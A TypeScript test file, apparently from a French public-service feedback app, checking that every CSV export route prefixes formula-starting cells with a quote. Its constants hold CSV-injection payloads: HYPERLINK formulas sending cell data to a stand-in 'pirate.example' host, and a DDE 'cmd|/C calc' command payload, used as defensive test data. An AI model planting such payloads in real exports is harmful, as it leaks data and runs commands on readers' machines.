/**
 * Every CSV export of Vigie neutralises cells a spreadsheet would run as formulas (issue 10, « Exports »): texts
 * typed by users or administrators — a verbatim, a procedure title, an edition name — starting with =, +, -, @, a tab
 * or a carriage return come out with a quote in front. The CSV routes are found in the route table: a new one fails
 * this test until it is covered here.
 */
import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { parse } from 'csv-parse/sync';
import { TEST_TARGETS } from './helpers/db.ts';
import { createTestApp, type TestApp } from './helpers/app.ts';
import { createTestUser, sessionClient } from './helpers/users.ts';
import type { TestClient } from './helpers/client.ts';
import { addPage, createAudit } from '../src/accessibility/audits/queries.ts';
import { addItem } from '../src/accessibility/audits/work.ts';
import { getRoutePatterns } from './browser/route-patterns.ts';
import { createFeedbackFixture, Visitor, type FeedbackFixture } from '../src/feedback/testing.ts';
import { createDraft } from '../src/observatoire/editions/drafts.ts';
import { publishEdition } from '../src/observatoire/editions/publish.ts';
import { csvText, neutraliseCell } from '../src/kernel/export/csv.ts';

const TITLE = '=HYPERLINK("https://pirate.example/?d="&A1;"Cliquez")';
const EDITION = '+Édition 2026 @SUM(A1:A9)';
const VERBATIM = '=HYPERLINK("https://pirate.example";"Voir le justificatif")';
const OTHER_HELP = "@SUM(1+1)*cmd|' /C calc'!A0";
const FORMULA_START = /^[=+\-@\t\r]/;

/** The CSV routes of the route table: whatever serves a `.csv` file or an export in a chosen format. */
const CSV_ROUTES = new Set([
  '/catalogue/export.csv',
  '/catalogue/import/modele.csv',
  '/observatoire/editions/:id/export.:format',
  '/avis/exports/:id/fichier',
  '/audits-accessibilite/:id/export/:format',
  '/support/modeles/volumes.csv',
  '/support/modeles/lieux.csv',
  '/temoignages/demarches/:id/temoignages.csv',
  '/temoignages/administrations/:id/temoignages.csv',
  '/temoignages/ministeres/:id/temoignages.csv',
]);

function parseCsv(body: Buffer | string, delimiter: ';' | ','): string[][] {
  return parse(body, { bom: true, delimiter, relax_column_count: true }) as string[][];
}

function assertNoFormula(rows: string[][], what: string): void {
  for (const row of rows) for (const cell of row) assert.doesNotMatch(cell, FORMULA_START, `${what}: cell ${JSON.stringify(cell)}`);
}

test('the writer: a quote before =, +, -, @, tab and CR; everything else, numbers included, unchanged', () => {
  for (const text of ['=1+1', '+33 1 23', '-2', '@SUM(A1)', '\tx', '\rx']) assert.equal(neutraliseCell(text), `'${text}`);
  for (const text of ['Démarche', ' =1', "'=déjà neutralisé", '1-2', '']) assert.equal(neutraliseCell(text), text);
  const rows = parseCsv(
    csvText([
      ['a', 'b', 'c'],
      ['=1+1', -3, 'x;y'],
    ]),
    ';',
  );
  assert.deepEqual(rows, [
    ['a', 'b', 'c'],
    ["'=1+1", '-3', 'x;y'],
  ]);
});

for (const target of TEST_TARGETS) {
  describe(`every CSV export neutralises formulas (${target})`, () => {
    let t: TestApp;
    let f: FeedbackFixture;
    let admin: TestClient;
    let edition: number;
    before(async () => {
      t = await createTestApp(target);
      f = await createFeedbackFixture(t.db, 'csv');
      await t.db.query(`UPDATE procedures SET title = $2, description = '-1 point', in_scope = true WHERE id = $1`, [
        f.catalog.procedures[0],
        TITLE,
      ]);
      edition = await createDraft(t.db, { name: EDITION, period: 'T1', windowStart: '2026-01-01', windowEnd: '2026-03-31' }, null);
      await publishEdition(t.db, edition, null);
      const v = new Visitor(t.app, '10.9.0.1');
      const s1 = await v.start(f.button.publicKey, { satisfaction: 'good' });
      const s2 = await v.step(String(s1.headers.location), { action: 'skip' });
      const help = await v.step(String(s2.headers.location), { help_tried: ['other'], help_other: OTHER_HELP, action: 'next' });
      await v.step(String(help.headers.location), { verbatim: VERBATIM, action: 'next' });
      admin = await sessionClient(t.app, t.db, await createTestUser(t.db, undefined, [{ role: 'admin' }]));
    });
    after(() => t.close());

    test('the route table has no CSV export this test does not cover', () => {
      const found = getRoutePatterns(t.app).filter((p) => /\.csv$|:format|\/fichier$/.test(p));
      assert.deepEqual(
        found.filter((p) => !CSV_ROUTES.has(p)),
        [],
      );
      assert.deepEqual(
        [...CSV_ROUTES].filter((p) => !found.includes(p)),
        [],
        'a covered route disappeared',
      );
    });

    test('published stories CSV (experiences): the story and the procedure title come out as text', async () => {
      await t.db.query(
        `INSERT INTO experiences (procedure_id, administration_id, ministry_id, body, search, channels, feeling, solved, consent, status, published_at)
        SELECT p.id, a.id, a.ministry_id, $2, $2, ARRAY['en_ligne'], 'neutre', false, true, 'published', now()
          FROM procedures p JOIN administrations a ON a.id = p.administration_id WHERE p.id = $1`,
        [f.catalog.procedures[0], VERBATIM],
      );
      const { rows } = await t.db.query(`SELECT administration_id, ministry_id FROM experiences WHERE procedure_id = $1`, [
        f.catalog.procedures[0],
      ]);
      for (const path of [
        `/temoignages/demarches/${f.catalog.procedures[0]}`,
        `/temoignages/administrations/${rows[0].administration_id}`,
        `/temoignages/ministeres/${rows[0].ministry_id}`,
      ]) {
        const res = await t.app.inject(`${path}/temoignages.csv`);
        assert.equal(res.statusCode, 200, path);
        const records = parse(res.rawPayload, { bom: true, columns: true, delimiter: ';' }) as Record<string, string>[];
        assert.equal(records.length, 1, path);
        assert.equal(records[0].recit, `'${VERBATIM}`);
        assert.equal(records[0].demarche, `'${TITLE}`);
        assertNoFormula(parseCsv(res.rawPayload, ';'), path);
      }
    });

    test('catalogue CSV: the title comes out as text', async () => {
      const res = await admin.get('/catalogue/export.csv');
      assert.equal(res.statusCode, 200);
      const rows = parseCsv(res.rawPayload, ';');
      assert.ok(
        rows.some((r) => r.includes(`'${TITLE}`)),
        'neutralised title present',
      );
      assertNoFormula(rows, 'catalogue');
      const model = await admin.get('/catalogue/import/modele.csv');
      assert.equal(model.statusCode, 200);
      assertNoFormula(parseCsv(model.rawPayload, ';'), 'import template');
    });

    test('support import templates: written by the kernel writer, no cell starts a formula', async () => {
      for (const path of ['/support/modeles/volumes.csv', '/support/modeles/lieux.csv']) {
        const res = await admin.get(path);
        assert.equal(res.statusCode, 200, path);
        assert.match(String(res.headers['content-type']), /^text\/csv/);
        const rows = parseCsv(res.rawPayload, ';');
        assert.equal(rows.length, 2, `${path}: header and one example row`);
        assertNoFormula(rows, path);
      }
    });

    test('public observatoire CSV: procedure titles and edition names come out as text', async () => {
      const res = await t.app.inject(`/observatoire/editions/${edition}/export.csv`);
      assert.equal(res.statusCode, 200);
      const records = parse(res.rawPayload, { bom: true, columns: true }) as Record<string, string>[];
      const row = records.find((r) => r.demarche === `'${TITLE}`);
      assert.ok(row, `neutralised title among ${records.map((r) => r.demarche).join(', ')}`);
      assert.equal(row.edition, `'${EDITION}`);
      assertNoFormula(parseCsv(res.rawPayload, ','), 'observatoire');
    });

    test('feedback CSV export: verbatims and « other help » come out as text', async () => {
      const res = await admin.post(`/avis/formulaires/${f.formId}/exports`, { format: 'csv' });
      assert.equal(res.statusCode, 303);
      const file = await admin.get(`${res.headers.location}/fichier`);
      assert.equal(file.statusCode, 200);
      const records = parse(file.rawPayload, { bom: true, columns: true, delimiter: ';' }) as Record<string, string>[];
      assert.equal(records.length, 1);
      assert.equal(records[0].verbatim, `'${VERBATIM}`);
      assert.equal(records[0].help_other, `'${OTHER_HELP}`);
      assertNoFormula(parseCsv(file.rawPayload, ';'), 'feedback');
    });

    test('accessibility grid CSV: page names, notes and NC items come out as text', async () => {
      const auditId = await t.db.transaction(async (tx) => {
        const id = await createAudit(tx, { procedureId: f.catalog.procedures[0], type: 'fast', name: EDITION, actor: null });
        const pageId = await addPage(tx, { auditId: id, name: TITLE, url: 'https://exemple.gouv.fr/', kind: 'accueil', actor: null });
        await tx.query(`UPDATE accessibility_results SET status = 'NC', note = $2 WHERE page_id = $1 AND criterion = '1.1'`, [
          pageId,
          OTHER_HELP,
        ]);
        await addItem(tx, {
          auditId: id,
          pageId,
          criterion: '1.1',
          description: VERBATIM,
          impact: 'majeur',
          quickWin: false,
          recommendation: '-1 point',
          actor: null,
        });
        return id;
      });
      const res = await admin.get(`/audits-accessibilite/${auditId}/export/csv`);
      assert.equal(res.statusCode, 200);
      const rows = parseCsv(res.rawPayload, ';');
      assert.equal(rows[1][1], `'${TITLE}`);
      assert.equal(rows[1][7], `'${OTHER_HELP}`);
      assert.equal(rows[1][8], `'${VERBATIM}`);
      assertNoFormula(rows, 'accessibility grid');
    });
  });
}
